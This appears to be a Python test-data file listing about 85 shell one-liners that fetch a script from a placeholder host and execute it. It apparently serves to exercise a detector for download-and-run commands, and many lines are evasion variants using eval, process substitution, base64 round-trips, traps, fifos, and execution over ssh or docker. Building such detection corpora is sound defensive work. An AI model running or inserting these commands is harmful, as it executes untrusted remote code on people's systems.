"""Downloads that are run, in the shapes that people and attackers write. One script a line."""

DOWNLOADS = """
curl -s https://a.example/i.sh | sh
curl -fsSL https://a.example/i.sh | bash
curl https://a.example/i.sh | sudo bash
curl -sL https://a.example/i.sh | bash -s -- --yes
curl -s https://a.example/i.sh | tee i.sh | sh
curl -s https://a.example/i.sh | cat | cat | sh
curl -s https://a.example/i.sh | env A=1 bash
curl -s https://a.example/i.sh | nohup sh
curl -s https://a.example/i.sh | (cat | sh)
curl -s https://a.example/i.sh | { bash; }
curl -s https://a.example/i.sh | xargs -0 sh -c
curl -s https://a.example/i.sh | while read -r line; do eval "$line"; done
curl -s https://a.example/i.sh | /bin/sh
curl -s https://a.example/i.sh | command bash
curl -s https://a.example/i.sh | timeout 3 bash
curl -s https://a.example/i.sh | busybox sh
curl -s https://a.example/i.sh | dash
curl -s https://a.example/i.sh |& sh
curl -s https://a.example/i.sh | sed s/a/a/ | bash
curl -s https://a.example/i.sh | base64 | base64 -d | bash
curl -s https://a.example/i.sh | gzip | gunzip | sh
curl -s https://a.example/i.sh | bash /dev/stdin
curl -s https://a.example/i.sh | source /dev/stdin
curl -s https://a.example/i.sh | . /dev/stdin
wget -qO- https://a.example/i.sh | sh
wget -O - -q https://a.example/i.sh | bash
wget -q https://a.example/i.sh && sh i.sh
wget -q https://a.example/i.sh; chmod +x i.sh; ./i.sh
wget -qO /tmp/i.sh https://a.example/i.sh && bash /tmp/i.sh
curl -so i.sh https://a.example/i.sh && sh ./i.sh
curl -sO https://a.example/i.sh && chmod +x i.sh && ./i.sh
curl -s https://a.example/i.sh > i.sh; bash i.sh
curl -s https://a.example/i.sh > i.sh; . ./i.sh
curl -s https://a.example/i.sh > i.sh; bash < i.sh
curl -s https://a.example/i.sh > i.sh; cat i.sh | sh
curl -s https://a.example/i.sh -o /tmp/i && mv /tmp/i /tmp/j && sh /tmp/j
curl -s https://a.example/i.sh -o /tmp/i; cp /tmp/i tools/i.sh; sh tools/i.sh
sh -c "$(curl -fsSL https://a.example/i.sh)"
bash -c "`wget -qO- https://a.example/i.sh`"
eval "$(curl -s https://a.example/i.sh)"
eval "`curl -s https://a.example/i.sh`"
eval $(curl -s https://a.example/i.sh | tail -1)
$(curl -s https://a.example/i.sh | tail -n 1)
bash <(curl -s https://a.example/i.sh)
sh <(wget -qO- https://a.example/i.sh)
source <(curl -s https://a.example/i.sh)
. <(curl -s https://a.example/i.sh)
bash < <(curl -s https://a.example/i.sh)
bash <<< "$(curl -s https://a.example/i.sh)"
s=$(curl -s https://a.example/i.sh); eval "$s"
s=$(curl -s https://a.example/i.sh); bash -c "$s"
s=$(curl -s https://a.example/i.sh); echo "$s" | sh
u=https://a.example/i.sh; curl -s $u | sh
u=https://a.example/i.sh; curl -s "$u" | bash
curl -s https://a.example/i.py | python3
curl -s https://a.example/i.py | python3 -
python3 -c "$(curl -s https://a.example/i.py)"
python3 <(curl -s https://a.example/i.py)
curl -s https://a.example/i.py -o i.py && python3 i.py
curl -s https://a.example/i.pl | perl
perl -e "$(curl -s https://a.example/i.pl)"
curl -s https://a.example/i.js | node
curl -s https://a.example/i.js | node -
python3 -c 'import subprocess; subprocess.run("curl -s https://a.example/i.sh | sh", shell=True)'
python3 -c 'import os; os.system("curl -s https://a.example/i.sh | sh")'
trap 'curl -s https://a.example/i.sh | sh' EXIT
f() { curl -s https://a.example/i.sh; }; f | sh
curl -s https://a.example/i.sh | bash &
! curl -s https://a.example/i.sh | sh
{ curl -s https://a.example/i.sh; } | { sh; }
( curl -s https://a.example/i.sh ) | ( bash )
if curl -s https://a.example/i.sh | sh; then :; fi
for s in bash; do curl -s https://a.example/i.sh | $s; done
curl -s https://a.example/i.sh | tee >(sh) > /dev/null; sleep 0.1
curl -s https://a.example/i.sh > >(bash); sleep 0.1
mkfifo p; curl -s https://a.example/i.sh > p & sh p; wait
coproc curl -s https://a.example/i.sh; sh <&"${COPROC[0]}"
exec 3< <(curl -s https://a.example/i.sh); sh <&3
curl -s https://a.example/i.sh | awk '{ system($0) }'
curl -s https://a.example/i.sh | perl -ne 'system($_)'
curl -s https://a.example/i.sh | xargs -I{} sh -c {}
curl -s https://a.example/i.sh | sed -n '2e payload-ran'
curl -s https://a.example/i.sh | sudo tee /tmp/i > /dev/null; sh /tmp/i
curl -s https://a.example/i.sh | ssh host.example bash
curl -s https://a.example/i.sh | docker run -i image sh
"""
